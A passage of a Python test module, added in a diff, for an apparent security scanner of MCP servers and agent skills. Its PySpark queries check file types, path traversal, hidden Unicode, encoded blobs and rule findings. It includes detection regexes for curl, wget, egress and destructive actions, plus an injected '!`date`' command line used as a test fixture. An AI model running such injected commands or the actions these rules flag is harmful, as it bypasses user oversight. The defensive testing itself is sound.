@@ -1,0 +1,860 @@
+"""Queries of the engine's operators over the test tables, with the same results in SQL where SQL can express them."""
+
+from __future__ import annotations
+
+import datetime as dt
+
+from pyspark.sql import DataFrame, SparkSession
+from pyspark.sql import functions as F
+
+from skein.functions import text as X
+from skein.functions import units as U
+from skein.operators import findings as FI
+from skein.operators import flows, inventory, lock, metrics, relate, rules, taint
+from skein.session import read
+from skein.sources import configs, files
+from skein.streaming import service
+
+QUERIES: dict = {}
+SQL: dict[str, str] = {}
+
+
+def query(name: str, sql: str | None = None):  # noqa: ANN201
+    """Register a query under its name, with its SQL."""
+
+    def add(fn):  # noqa: ANN001, ANN202
+        QUERIES[name] = fn
+        if sql:
+            SQL[name] = sql
+        return fn
+
+    return add
+
+
+# ---------------------------------------------------------------- sources and files
+
+
+@query("s07_s08_binary_kinds", """
+select kind, archive, count(*) as n from (
+  select case when h like '7F454C46%' then 'elf' when h like '4D5A%' and octet_length(data) >= 64 then 'pe' when h like 'FEEDFACE%' or h like 'FEEDFACF%' or h like 'CEFAEDFE%' or h like 'CFFAEDFE%' then 'macho' when h like 'CAFEBABE%' then 'macho_or_class'
+    when h like '0061736D%' then 'wasm' when h like '504B0304%' then 'zip' when h like '1F8B%' then 'gzip' when h like '25504446%' then 'pdf' when h like '89504E47%' then 'png' when h like 'FFD8FF%' then 'jpeg' when h like '47494638%' then 'gif'
+    when regexp_matches(h, '^(?:..)*?00') and not regexp_matches(h, '^(?:FFFE|FEFF)') then 'binary' end as kind,
+  case when h like '504B0304%' or h like '504B0506%' then 'zip' when h like '1F8B%' then 'tgz' when octet_length(data) >= 262 and substr(h, 515, 10) = '7573746172' then 'tar' end as archive
+  from (select data, substr(hex(data), 1, 16384) as h from file_blobs)) group by all""")
+def binary_kinds(spark: SparkSession, d: str) -> DataFrame:
+    b = read(spark, d, "file_blobs", "data")
+    return b.groupBy(X.binary_kind(F.col("data")).alias("kind"), X.archive_format(F.col("data")).alias("archive")).agg(F.count("*").alias("n"))
+
+
+_LANG_SQL = "case when regexp_matches(lower(regexp_extract(file_path, '[^/]*$')), '^dockerfile|\\.dockerfile$') then 'dockerfile' else map_extract_value(map {" + ", ".join(f"'{k}': '{v}'" for k, v in X.LANGUAGES.items()) + "}, case when strpos(regexp_extract(file_path, '[^/]*$'), '.') > 0 then regexp_extract(lower(file_path), '[^.]*$') end) end"
+
+
+@query("s09_language", f"select {_LANG_SQL} as language, count(*) as n, sum(n_bytes)::bigint as n_bytes from file_blobs group by 1")
+def language(spark: SparkSession, d: str) -> DataFrame:
+    b = read(spark, d, "file_blobs", "file_path", "n_bytes")
+    return b.groupBy(X.language(F.col("file_path")).alias("language")).agg(F.count("*").alias("n"), F.sum("n_bytes").alias("n_bytes"))
+
+
+@query("s10_decode", """
+select blob_id, case when hex(data) like 'FFFE%' then 'utf-16-le' when hex(data) like 'FEFF%' then 'utf-16-be' when try(decode(data)) is not null then 'utf-8' else 'latin-1' end as encoding,
+  case when hex(data) like 'FFFE%' or hex(data) like 'FEFF%' then (octet_length(data) - 2) // 2 when try(decode(data)) is not null then length(decode(data)) - (hex(data) like 'EFBBBF%')::int else octet_length(data) end::int as n_chars
+from file_blobs""")
+def decode(spark: SparkSession, d: str) -> DataFrame:
+    t = X.decode_text(F.col("data"))
+    b = read(spark, d, "file_blobs", "blob_id", "data").select("blob_id", t.alias("t"))
+    return b.select("blob_id", F.col("t.encoding").alias("encoding"), F.length("t.text").alias("n_chars"))
+
+
+@query("s03_s04_member_paths", """
+select doc_id, case when p is null or trim(p) = '' then 'empty' when starts_with(p, '/') then 'absolute' when regexp_matches(p, '^[A-Za-z]:') then 'drive' when list_contains(string_split(p, '/'), '..') then 'escape' when contains(p, ':') then 'stream' end as problem,
+  case when p is not null and not starts_with(p, '/') and not list_contains(string_split(p, '/'), '..') and not contains(p, ':') then array_to_string(list_filter(string_split(p, '/'), lambda x: x not in ('', '.')), '/') end as path
+from (select doc_id, case doc_id % 4 when 0 then './' || file_path when 1 then replace(file_path, '/', '//') when 2 then '../' || file_path else file_path end as p from documents)""")
+def member_paths(spark: SparkSession, d: str) -> DataFrame:
+    k, p = F.col("doc_id") % 4, F.col("file_path")
+    odd = F.when(k == 0, F.concat(F.lit("./"), p)).when(k == 1, F.replace(p, F.lit("/"), F.lit("//"))).when(k == 2, F.concat(F.lit("../"), p)).otherwise(p)
+    return read(spark, d, "documents", "doc_id", "file_path").select("doc_id", X.path_problem(odd).alias("problem"), X.member_path(odd).alias("path"))
+
+
+@query("s05_running_totals", """
+select report_id, file_path, count(*) over w as files, (sum(n_bytes) over w)::bigint as bytes
+from (select distinct report_id, file_path, blob_id, n_bytes from file_blobs) window w as (partition by report_id order by file_path, blob_id rows unbounded preceding)""")
+def running_totals(spark: SparkSession, d: str) -> DataFrame:
+    from pyspark.sql import Window
+
+    b = read(spark, d, "file_blobs", "report_id", "file_path", "blob_id", "n_bytes").distinct()
+    w = Window.partitionBy("report_id").orderBy("file_path", "blob_id").rowsBetween(Window.unboundedPreceding, 0)
+    return b.select("report_id", "file_path", F.count("*").over(w).alias("files"), F.sum("n_bytes").over(w).alias("bytes"))
+
+
+def _scan(spark: SparkSession, d: str) -> DataFrame:
+    """Decoded files: one scan per report."""
+    b = read(spark, d, "file_blobs", "report_id", "file_path", "blob_id", "data").dropDuplicates(["blob_id"])
+    return b.select(F.col("report_id").cast("string").alias("scan_id"), F.col("file_path").alias("path"), "blob_id", X.decode_text(F.col("data"))["text"].alias("text"), X.language(F.col("file_path")).alias("language"))
+
+
+@query("s05_admission")
+def admission(spark: SparkSession, d: str) -> DataFrame:
+    b = read(spark, d, "file_blobs", "report_id", "blob_id", "n_bytes").dropDuplicates(["blob_id"])
+    f = b.select(F.col("report_id").cast("string").alias("scan_id"), F.concat(F.lit("f"), F.col("blob_id").cast("string")).alias("path"), F.col("n_bytes").alias("length"))
+    return files.admit(f, files.Limits(file_bytes=1500, total_bytes=2500, files=5))[1]
+
+
+@query("s12_fetch_plan")
+def fetch_plan(spark: SparkSession, d: str) -> DataFrame:
+    b = read(spark, d, "file_blobs", "report_id", "file_path", "n_bytes").distinct()
+    return configs.plan_fetch(b.select(F.col("report_id").cast("string").alias("scan_id"), F.col("file_path").alias("path"), F.col("n_bytes").alias("size")), 20, 20_000, 4000)[0]
+
+
+@query("s14_ref_candidates", """
+select locator, i::int as n, array_to_string(list_slice(s, 1, i), '/') as ref, array_to_string(list_slice(s, i + 1, len(s)), '/') as path
+from (select locator, s, unnest(range(1, least(len(s), 4) + 1)) as i from (select distinct locator, string_split(regexp_replace(locator, '^[a-z]+:', ''), '/') as s from reports))""")
+def ref_candidates(spark: SparkSession, d: str) -> DataFrame:
+    s = F.split(F.regexp_replace("locator", "^[a-z]+:", ""), "/")
+    r = read(spark, d, "reports", "locator").distinct().select("locator", s.alias("s"))
+    e = r.select("locator", "s", F.explode(F.sequence(F.lit(1), F.least(F.size("s"), F.lit(4)))).alias("n"))
+    return e.select("locator", "n", F.array_join(F.slice("s", F.lit(1), F.col("n")), "/").alias("ref"), F.array_join(F.slice("s", F.col("n") + 1, F.size("s")), "/").alias("path"))
+
+
+@query("s13_inputs")
+def inputs(spark: SparkSession, d: str) -> DataFrame:
+    r = read(spark, d, "reports", "kind", "locator").distinct()
+    link = F.when(F.col("kind") == "github", F.concat(F.lit("https://github.com/"), F.regexp_replace("locator", "^[a-z]+:[^/]+/", ""))).otherwise(F.concat("kind", F.lit(":"), F.regexp_extract("locator", "[^/]*$", 0)))
+    parsed = lambda t: [(x.get("kind", ""), x.get("locator", ""), x.get("rejected", "")) for x in [configs.parse_input(t)]]
+    return U.explode_with(r.select("locator", link.alias("t")).withColumnRenamed("locator", "given"), "t", parsed, "kind string, locator string, rejected string")
+
+
+@query("s15_json_depth")
+def json_depth(spark: SparkSession, d: str) -> DataFrame:
+    """Tool schemas parsed strictly and with comments; too deep and broken ones give their error."""
+    t = read(spark, d, "tools", "tool_id", "input_schema")
+
+    def parse(s: str) -> list[tuple]:
+        value, err = U.parse_json(s, jsonc=True, max_depth=8)
+        return [(type(value).__name__, err or "")]
+
+    return U.explode_with(t, "input_schema", parse, "kind string, error string")
+
+
+@query("s18_frontmatter")
+def frontmatters(spark: SparkSession, d: str) -> DataFrame:
+    t = read(spark, d, "documents", "doc_id", "doc_kind", "text").filter("doc_kind = 'skill_md'").drop("doc_kind")
+
+    def parse(s: str) -> list[tuple]:
+        raw, body, err = U.frontmatter(s)
+        value, again, bad = U.load_yaml(raw) if raw else (None, [], None)
+        value = value if isinstance(value, dict) else {}
+        return [(raw is not None, body, err or bad or "", str(value.get("name") or "")[:128], str(value.get("description") or ""), U.allowed_tools(str(value.get("allowed-tools") or "")), again)]
+
+    return U.explode_with(t, "text", parse, "found boolean, body int, error string, name string, description string, tools array<string>, repeated array<string>")
+
+
+@query("s20_client_servers")
+def client_servers(spark: SparkSession, d: str) -> DataFrame:
+    """Configurations written from the stored servers and read again."""
+    s = read(spark, d, "server_specs", "spec_id", "server_name", "command", "args", "url", "client").dropDuplicates(["spec_id"])
+    body = F.to_json(F.struct(F.map_from_arrays(F.array("server_name"), F.array(F.struct("command", "args", "url"))).alias("mcpServers")))
+    path = F.when(F.col("client") == "cursor", ".cursor/mcp.json").when(F.col("client") == "vscode", ".vscode/mcp.json").otherwise("x/claude_desktop_config.json")
+    return configs.client_servers(s.select("spec_id", path.alias("path"), body.alias("text")))
+
+
+@query("s22_manifests")
+def manifests(spark: SparkSession, d: str) -> DataFrame:
+    t = read(spark, d, "tools", "server_name", "tool_name", "description").distinct()
+    body = F.to_json(F.struct(F.struct(F.array_sort(F.collect_list(F.struct(F.col("tool_name").alias("name"), "description"))).alias("tools")).alias("result")))
+    return configs.manifests(t.groupBy("server_name").agg(body.alias("text")))
+
+
+@query("s23_s24_source_tools")
+def source_tools(spark: SparkSession, d: str) -> DataFrame:
+    s = _scan(spark, d).filter(F.col("language").isin("python", "javascript", "typescript"))
+    packed = s.select("scan_id", "path", F.concat("language", F.lit("\x00"), "text").alias("t"))
+    both = lambda t: [(x["name"], x["description"], x["params"], x["line"]) for x in (U.python_tools if t.startswith("python\x00") else U.js_tools)(t.split("\x00", 1)[1])]
+    return U.explode_with(packed, "t", both, "name string, description string, params array<string>, line int")
+
+
+# ---------------------------------------------------------------- inventory
+
+
+@query("i01_skill_roots", "select distinct report_id::varchar as scan_id, case when contains(file_path, '/') then regexp_replace(file_path, '/[^/]*$', '') else '' end as root from file_blobs where lower(regexp_extract(file_path, '[^/]*$')) = 'skill.md'")
+def skill_roots(spark: SparkSession, d: str) -> DataFrame:
+    return inventory.skill_roots(_paths(spark, d))
+
+
+def _paths(spark: SparkSession, d: str) -> DataFrame:
+    return read(spark, d, "file_blobs", "report_id", "file_path", "sha256").select(F.col("report_id").cast("string").alias("scan_id"), F.col("file_path").alias("path"), "sha256").distinct()
+
+
+@query("i02_nearest_owner", """
+with p as (select distinct report_id::varchar as scan_id, file_path as path from file_blobs),
+r as (select distinct regexp_replace(file_path, '/[^/]*$', '') as root from file_blobs where lower(regexp_extract(file_path, '[^/]*$')) = 'skill.md' and contains(file_path, '/'))
+select p.scan_id, p.path, arg_max(r.root, length(r.root)) as root from p left join r on starts_with(p.path, r.root || '/') group by 1, 2""")
+def nearest_owner(spark: SparkSession, d: str) -> DataFrame:
+    p = _paths(spark, d).select("scan_id", "path").distinct()
+    roots = inventory.skill_roots(p).select("root").filter("root <> ''").distinct()
+    return relate.prefix_join(p, "path", roots, "root").join(p, ["scan_id", "path"], "right")
+
+
+@query("i05_i06_roles")
+def roles(spark: SparkSession, d: str) -> DataFrame:
+    p = _paths(spark, d).select("scan_id", "path").distinct()
+    own = inventory.nearest_owner(p, inventory.skill_roots(p))
+    return own.select("scan_id", "path", inventory.file_role(F.col("path"), F.col("root").isNotNull()).alias("role"))
+
+
+@query("i07_content_hash", """
+select report_id::varchar as scan_id, '' as root, sha256(string_agg(file_path || chr(0) || sha256, chr(10) order by file_path || chr(0) || sha256)) as content_hash, count(*) as n_files
+from (select distinct report_id, file_path, sha256 from file_blobs) group by report_id""")
+def content_hash(spark: SparkSession, d: str) -> DataFrame:
+    return inventory.content_hashes(_paths(spark, d).withColumn("root", F.lit("")))
+
+
+@query("i09_component_ids", "select distinct server_name, left(sha256('mcp_server|' || config_path || '|' || server_name || '|' || coalesce(url, command)), 16) as component from server_specs")
+def component_ids(spark: SparkSession, d: str) -> DataFrame:
+    s = read(spark, d, "server_specs", "server_name", "config_path", "url", "command")
+    return s.select("server_name", inventory.component_id(F.lit("mcp_server"), F.col("config_path"), F.col("server_name"), F.coalesce("url", "command")).alias("component")).distinct()
+
+
+@query("i13_runner_packages", """
+with a as (select spec_id, regexp_replace(lower(regexp_extract(command, '[^/]*$')), '\\.(?:exe|cmd)$', '') as exe, list_filter(args, lambda x: not starts_with(x, '-')) as plain from (select distinct spec_id, command, args from server_specs)),
+b as (select spec_id, case when exe in ('npx', 'bunx', 'uvx', 'pipx', 'pnpx') then list_filter(plain, lambda x: x not in ('run', 'exec', 'dlx'))[1] when exe in ('docker', 'podman') then list_filter(plain, lambda x: x not in ('run', 'exec', 'compose', 'pull') and not contains(x, '='))[1] end as spec from a)
+select spec_id, spec, nullif(regexp_extract(spec, '^(@[^/@]+/[^@]+|[^@=<>~!\\[\\s]+)', 1), '') as package,
+ case when spec is null then 'none' when regexp_matches(spec, '^[\\w.\\-\\[\\]]+==[\\w.!+\\-]+$') or regexp_matches(v, '^v?\\d+\\.\\d+\\.\\d+[\\w.+\\-]*$') then 'exact' when regexp_matches(v, '^[\\^~<>=*]|x$|\\s') then 'range' when v <> '' then 'tag' else 'none' end as pin
+from (select *, regexp_extract(spec, '^@?[^@]*@(.+)$', 1) as v from b)""")
+def runner_packages(spark: SparkSession, d: str) -> DataFrame:
+    s = read(spark, d, "server_specs", "spec_id", "command", "args").distinct().select("spec_id", inventory.runner_package(F.col("command"), F.col("args")).alias("spec"))
+    return s.select("spec_id", "spec", F.nullif(X.package_name(F.col("spec")), F.lit("")).alias("package"), X.pin_status(F.col("spec")).alias("pin"))
+
+
+@query("i14_live_tools", """
+with t as (select distinct server_name as component, tool_name, origin from tools), k as (select * from t where origin <> 'live_list'), l as (select * from t where origin = 'live_list')
+select * from k union all select l.* from l anti join k using (component, tool_name)""")
+def live_tools(spark: SparkSession, d: str) -> DataFrame:
+    t = read(spark, d, "tools", "server_name", "tool_name", "origin").distinct().withColumnRenamed("server_name", "component")
+    return inventory.merge_live_tools(t.filter("origin <> 'live_list'"), t.filter("origin = 'live_list'"))
+
+
+@query("i15_publishers", "select regexp_extract(locator, '^(?:[a-z]+:)?(?:https?://)?[^/]+/([^/]+)/', 1) as publisher, count(distinct locator) as locators from reports group by 1")
+def publishers(spark: SparkSession, d: str) -> DataFrame:
+    return read(spark, d, "reports", "locator").groupBy(inventory.publisher(F.col("locator")).alias("publisher")).agg(F.count_distinct("locator").alias("locators"))
+
+
+# ---------------------------------------------------------------- text
+
+
+@query("t01_text_units")
+def text_units(spark: SparkSession, d: str) -> DataFrame:
+    s = _scan(spark, d).filter("text is not null")
+    role = F.when(F.col("language") == "markdown", "skill_md").otherwise("source")
+    return U.text_units(s.select("scan_id", "blob_id", role.alias("role"), "text"))
+
+
+@query("t02_folded")
+def folded(spark: SparkSession, d: str) -> DataFrame:
+    t = read(spark, d, "text_runs", "run_id", "text", "run_start", "run_end")
+    packed = t.select("run_id", F.concat_ws("\x00", F.col("run_start").cast("string"), F.col("run_end").cast("string"), "text").alias("t"))
+
+    def go(x: str) -> list[tuple]:
+        a, b, text = x.split("\x00", 2)
+        new, at = U.fold(text)
+        return [(new, at[min(int(a), len(at) - 1)], at[min(int(b), len(at) - 1)])]
+
+    return U.explode_with(packed, "t", go, "text string, source_start int, source_end int")
+
+
+@query("t03_t06_hidden_runs")
+def hidden_runs(spark: SparkSession, d: str) -> DataFrame:
+    return U.explode_with(read(spark, d, "tools", "tool_id", "description"), "description", U.hidden_runs, "start int, end int, kind string, decoded string")
+
+
+@query("t04_bidi_counts", "select run_id, len(regexp_extract_all(text, '[\\x{202A}-\\x{202E}\\x{2066}-\\x{2069}]'))::int as bidi, len(regexp_extract_all(text, '[\\x{200B}-\\x{200D}\\x{2060}-\\x{2064}\\x{FEFF}]'))::int as zero_width from text_runs")
+def bidi_counts(spark: SparkSession, d: str) -> DataFrame:
+    t = read(spark, d, "text_runs", "run_id", "text")
+    count = lambda rx: F.regexp_count("text", F.lit(rx))
+    return t.select("run_id", count("[\\x{202A}-\\x{202E}\\x{2066}-\\x{2069}]").alias("bidi"), count("[\\x{200B}-\\x{200D}\\x{2060}-\\x{2064}\\x{FEFF}]").alias("zero_width"))
+
+
+@query("t06_mixed_script", """
+select run_id, word from (select run_id, unnest(list_distinct(string_split(text, ' '))) as word from text_runs)
+where regexp_matches(word, '\\p{Latin}') and regexp_matches(word, '[\\p{Cyrillic}\\p{Greek}\\p{Armenian}\\p{Cherokee}]')""")
+def mixed_script(spark: SparkSession, d: str) -> DataFrame:
+    w = read(spark, d, "text_runs", "run_id", "text").select("run_id", F.explode(F.array_distinct(F.split("text", " "))).alias("word"))
+    return w.filter(F.col("word").rlike("\\p{IsLatin}") & F.col("word").rlike("[\\p{IsCyrillic}\\p{IsGreek}\\p{IsArmenian}\\p{IsCherokee}]"))
+
+
+@query("t07_base64_blobs", "select report_id, substr(regexp_replace(json_extract_string(report_json, '$.summary'), '[^\\x20-\\x7e]', '', 'g'), 1, 200) as decoded from (select distinct report_id, report_json from reports) where length(decoded) >= 18")
+def base64_blobs(spark: SparkSession, d: str) -> DataFrame:
+    """Summaries are encoded, set into a sentence, and found and decoded again."""
+    plain = F.substring(F.regexp_replace(F.get_json_object("report_json", "$.summary"), "[^\\x20-\\x7e]", ""), 1, 200)
+    r = read(spark, d, "reports", "report_id", "report_json").distinct().select("report_id", F.concat(F.lit("see "), F.replace(F.base64(plain.cast("binary")), F.lit("\r\n"), F.lit("")), F.lit(" for it")).alias("t"))
+    return r.select("report_id", F.explode(X.base64_blobs(F.col("t"))).alias("decoded"))
+
+
+@query("t07_nested_blobs")
+def nested_blobs(spark: SparkSession, d: str) -> DataFrame:
+    return U.explode_with(_scan(spark, d).select("blob_id", "text"), "text", U.blobs, "start int, end int, decode_path string, decoded string")
+
+
+@query("t09_t10_sections")
+def doc_sections(spark: SparkSession, d: str) -> DataFrame:
+    return U.explode_with(read(spark, d, "documents", "doc_id", "text"), "text", U.sections, "start int, end int, level int, heading string")
+
+
+@query("t10_headings", """
+select doc_id, length(regexp_extract(line, '^(#{1,6})[ \\t]', 1))::int as level, count(*) as n
+from (select doc_id, unnest(string_split(text, chr(10))) as line from documents where not contains(text, '```') and not contains(text, '~~~')) where regexp_matches(line, '^#{1,6}[ \\t]+\\S') group by 1, 2""")
+def headings(spark: SparkSession, d: str) -> DataFrame:
+    t = read(spark, d, "documents", "doc_id", "text").filter(~F.contains("text", F.lit("```")) & ~F.contains("text", F.lit("~~~")))
+    lines = t.select("doc_id", F.explode(F.split("text", "\n")).alias("line")).filter(F.col("line").rlike(r"^#{1,6}[ \t]+\S"))
+    return lines.groupBy("doc_id", F.length(F.regexp_extract("line", r"^(#{1,6})[ \t]", 1)).alias("level")).agg(F.count("*").alias("n"))
+
+
+@query("t09_fences")
+def doc_fences(spark: SparkSession, d: str) -> DataFrame:
+    return U.explode_with(read(spark, d, "documents", "doc_id", "text"), "text", U.fences, "start int, end int, language string")
+
+
+@query("t11_hidden_regions")
+def hidden_regions(spark: SparkSession, d: str) -> DataFrame:
+    return U.explode_with(read(spark, d, "documents", "doc_id", "text"), "text", U.hidden_regions, "start int, end int, kind string, content string")
+
+
+@query("t12_commands")
+def commands(spark: SparkSession, d: str) -> DataFrame:
+    """Command injections set into the texts of skills are found again."""
+    t = read(spark, d, "documents", "doc_id", "doc_kind", "text").filter("doc_kind = 'skill_md'")
+    return U.explode_with(t.select("doc_id", F.concat("text", F.lit("\n\nrun !`date` first\n")).alias("text")), "text", U.bang_commands, "start int, command string")
+
+
+@query("t15_entropy", """
+with e as (select distinct content_hash as v from lock_entries where content_hash is not null), c as (select v, unnest(string_split(v, '')) as ch from e), n as (select v, ch, count(*) as k from c group by all), t as (select v, sum(k) as s from n group by v)
+select n.v as value, round(-sum(k / s * log2(k / s)), 6) as bits from n join t using (v) group by n.v""")
+def entropies(spark: SparkSession, d: str) -> DataFrame:
+    return read(spark, d, "lock_entries", "content_hash").filter("content_hash is not null").distinct().select(F.col("content_hash").alias("value"), F.round(X.entropy(F.col("content_hash")), 6).alias("bits"))
+
+
+@query("t17_duplicate_texts", "select sha256(text) as digest, count(*) as n, min(doc_id) as first_doc from documents where text is not null group by 1 having count(*) > 1")
+def duplicate_texts(spark: SparkSession, d: str) -> DataFrame:
+    t = read(spark, d, "documents", "doc_id", "text").filter("text is not null")
+    return t.groupBy(X.sha256(F.col("text")).alias("digest")).agg(F.count("*").alias("n"), F.min("doc_id").alias("first_doc")).filter("n > 1")
+
+
+@query("t18_positions", """
+select doc_id, p::int as pos, (1 + length(left(text, p - 1)) - length(replace(left(text, p - 1), chr(10), '')))::int as line, (p - coalesce(length(left(text, p - 1)) - strpos(reverse(left(text, p - 1)), chr(10)) + 1, 0) * (contains(left(text, p - 1), chr(10)))::int)::int as col
+from (select doc_id, text, strpos(text, 'client') as p from documents) where p > 0""")
+def positions(spark: SparkSession, d: str) -> DataFrame:
+    t = read(spark, d, "documents", "doc_id", "text").withColumn("pos", F.instr("text", "client")).filter("pos > 0")
+    return t.select("doc_id", "pos", X.line_of(F.col("text"), F.col("pos")).alias("line"), X.column_of(F.col("text"), F.col("pos")).alias("col"))
+
+
+@query("t19_folded_paths")
+def folded_paths(spark: SparkSession, d: str) -> DataFrame:
+    """Paths of files written as joins are folded back."""
+    s = _scan(spark, d).select("blob_id", F.concat(F.lit('p = os.path.join("'), F.array_join(F.split("path", "/"), '", "'), F.lit('")')).alias("t"))
+    return U.explode_with(s, "t", U.folded_paths, "line int, folded string")
+
+
+@query("t22_word_count", "select doc_id, len(regexp_extract_all(text, '[A-Za-z]{2,}'))::int as words from documents")
+def word_count(spark: SparkSession, d: str) -> DataFrame:
+    return read(spark, d, "documents", "doc_id", "text").select("doc_id", X.word_count(F.col("text")).alias("words"))
+
+
+@query("t25_shell_events")
+def shell_events(spark: SparkSession, d: str) -> DataFrame:
+    s = _scan(spark, d).filter("language = 'shell'").select("scan_id", "path", "text").withColumnRenamed("path", "file")
+    return U.explode_with(s, "text", U.shell_events, "line int, event string, path string, source string")
+
+
+@query("t30_schema_texts")
+def schema_texts(spark: SparkSession, d: str) -> DataFrame:
+    return U.explode_with(read(spark, d, "tools", "tool_id", "input_schema"), "input_schema", lambda s: U.schema_texts(_schema(s)), "pointer string, keyword string, content string")
+
+
+def _schema(s: str):  # noqa: ANN202
+    from skein.operators.shred import parse_schema
+
+    return parse_schema(s)[1]
+
+
+@query("t31_t32_schema_shapes")
+def schema_shapes(spark: SparkSession, d: str) -> DataFrame:
+    return U.explode_with(read(spark, d, "tools", "tool_id", "input_schema"), "input_schema", lambda s: [(*U.schema_shape(_schema(s)), len(U.remote_refs(_schema(s))))], "depth int, nodes int, expanded int, remote int")
+
+
+@query("t34_t35_urls", """
+select distinct url, host, (host in ('localhost', '0.0.0.0') or regexp_matches(host, '^127(?:\\.\\d{1,3}){3}$')) as loopback, case when len(string_split(host, '.')) >= 2 then array_to_string(list_slice(string_split(host, '.'), -2, -1), '.') else host end as domain
+from (select url, lower(regexp_extract(url, '^[A-Za-z][A-Za-z0-9+.\\-]*://(?:[^/@\\s]*@)?([^/:?#\\s]+)', 1)) as host from server_specs where url is not null)""")
+def urls(spark: SparkSession, d: str) -> DataFrame:
+    u = read(spark, d, "server_specs", "url").filter("url is not null").distinct().withColumn("host", X.url_host(F.col("url")))
+    return u.select("url", "host", X.is_loopback(F.col("host")).alias("loopback"), X.registrable_domain(F.col("host")).alias("domain"))
+
+
+@query("t36_dependency_refs")
+def dependency_refs(spark: SparkSession, d: str) -> DataFrame:
+    return U.explode_with(_scan(spark, d).select("blob_id", "text"), "text", U.dependency_refs, "line int, kind string, name string")
+
+
+@query("t37_package_names", "select distinct entry_name, lower(regexp_replace(entry_name, '[-_.]+', '-', 'g')) as name from lock_entries where kind = 'package'")
+def package_names(spark: SparkSession, d: str) -> DataFrame:
+    return read(spark, d, "lock_entries", "entry_name", "kind").filter("kind = 'package'").select("entry_name", X.pypi_name(F.col("entry_name")).alias("name")).distinct()
+
+
+@query("t39_tool_hashes")
+def tool_hashes(spark: SparkSession, d: str) -> DataFrame:
+    t = read(spark, d, "tools", "tool_id", "tool_name", "description", "input_schema", "output_schema")
+    packed = t.select("tool_id", F.to_json(F.struct("tool_name", "description", "input_schema", "output_schema")).alias("t"))
+
+    def go(x: str) -> list[tuple]:
+        import json
+
+        v = json.loads(x)
+        tool = {"name": v.get("tool_name"), "description": v.get("description"), "input_schema": _schema(v.get("input_schema")), "output_schema": _schema(v.get("output_schema"))}
+        return [(U.tool_hash(tool, 1), U.tool_hash(tool, 2))]
+
+    return U.explode_with(packed, "t", go, "v1 string, v2 string")
+
+
+@query("t41_escapes", """
+select tool_id, regexp_replace(regexp_replace(tool_name, '([\\\\`*_{}\\[\\]<>|#])', '\\\\\\1', 'g'), '\\r?\\n', ' ', 'g') as md, replace(replace(replace(replace(replace(annotations, '&', '&amp;'), '<', '&lt;'), '>', '&gt;'), '"', '&quot;'), '''', '&#x27;') as html from tools""")
+def escapes(spark: SparkSession, d: str) -> DataFrame:
+    return read(spark, d, "tools", "tool_id", "tool_name", "annotations").select("tool_id", X.md_escape(F.col("tool_name")).alias("md"), X.html_escape(F.col("annotations")).alias("html"))
+
+
+_GLOBS = [("tests", "tests/*"), ("python", "*.py"), ("skill", "*/skill.md"), ("one", "src/*/[a-m]*.t?")]
+
+
+@query("t42_globs", "select g.name as pattern, count(*) as n from file_blobs, (values ('tests', 'tests/*'), ('python', '*.py'), ('skill', '*/skill.md'), ('one', 'src/*/[a-m]*.t?')) g(name, pat) where file_path glob pat group by 1")
+def globs(spark: SparkSession, d: str) -> DataFrame:
+    b = read(spark, d, "file_blobs", "file_path")
+    hit = F.filter(F.array(*[F.when(F.col("file_path").rlike(X.glob_regex(g)), F.lit(n)) for n, g in _GLOBS]), lambda x: x.isNotNull())
+    return b.select(F.explode(hit).alias("pattern")).groupBy("pattern").agg(F.count("*").alias("n"))
+
+
+@query("t43_comment_lines", """
+select blob_id, count(*) as n from (select blob_id, unnest(string_split(decode(data), chr(10))) as line from (select distinct blob_id, data from file_blobs where try(decode(data)) is not null and hex(data) not like 'FFFE%' and hex(data) not like 'FEFF%'))
+where regexp_matches(line, '^\\s*(?:#(?:[^!]|$)|//|--\\s|/\\*|\\*(?:[^*]|$)|<!--|;|REM\\s)') group by 1""")
+def comment_lines(spark: SparkSession, d: str) -> DataFrame:
+    b = read(spark, d, "file_blobs", "blob_id", "data").distinct()
+    t = b.select("blob_id", F.hex(F.substring("data", 1, 2)).alias("h"), F.try_validate_utf8(F.col("data").cast("string")).alias("t")).filter("t is not null and h not in ('FFFE', 'FEFF')")
+    return t.select("blob_id", F.explode(F.split("t", "\n")).alias("line")).filter(X.is_comment_line(F.col("line"))).groupBy("blob_id").agg(F.count("*").alias("n"))
+
+
+# ---------------------------------------------------------------- rules and findings
+
+#: Rules in patterns that Java, Python and RE2 read alike.
+_PATTERNS = [("T-EGRESS-1", r"(?i)\bexternal_egress\b"), ("T-FETCH-1", r"(?i)\b(?:fetch|curl|wget)\b"), ("T-DELETE-1", r"(?i)\bdestructive\b"), ("T-DATA-1", r"(?i)\bprivate_data\b")]
+_PACK = [{"id": r, "severity": s, "confidence": c, "match": {"type": "regex", "patterns": [p.removeprefix("(?i)")], "scopes": ["body"], "window": 0, "max_matches": 3, "unless": u}} for (r, p), s, c, u in zip(_PATTERNS, ("critical", "medium", "high", "low"), ("high", "medium", "medium", "high"), ([], [], [r"\bNothing\b"], []), strict=True)]
+_HITS_SQL = """
+hits as (select l.doc_id, r.rule_id, l.line, l.snippet from (select doc_id, unnest(range(1, len(s) + 1)) as line, unnest(s) as snippet from (select doc_id, string_split(text, chr(10)) as s from documents where text is not null)) l,
+ (values ('T-EGRESS-1', '(?i)\\bexternal_egress\\b'), ('T-FETCH-1', '(?i)\\b(?:fetch|curl|wget)\\b'), ('T-DELETE-1', '(?i)\\bdestructive\\b'), ('T-DATA-1', '(?i)\\bprivate_data\\b')) r(rule_id, p) where regexp_matches(l.snippet, r.p))"""
+
+
+def _hits(spark: SparkSession, d: str) -> DataFrame:
+    return rules.native_hits(read(spark, d, "documents", "doc_id", "text"), "doc_id", "text", _PATTERNS)
+
+
+def _raw(spark: SparkSession, d: str) -> DataFrame:
+    """Hits as raw emissions; the scan is the kind of document, the component the source."""
+    dim = spark.createDataFrame([("T-EGRESS-1", "critical", "high"), ("T-FETCH-1", "medium", "medium"), ("T-DELETE-1", "high", "medium"), ("T-DATA-1", "low", "high")], "rule_id string, severity string, confidence string")
+    h = _hits(spark, d).join(read(spark, d, "documents", "doc_id", "doc_kind", "source", "file_path", "lang"), "doc_id").join(F.broadcast(dim), "rule_id")
+    return h.select(
+        F.col("doc_kind").alias("scan_id"), F.struct("doc_id", "line", "rule_id").alias("seq"), "rule_id", F.array(F.coalesce("source", F.lit(""))).alias("components"), F.col("file_path").alias("path"), "line", F.substring(X.sha256(F.col("rule_id")), 1, 16).alias("match_key"),
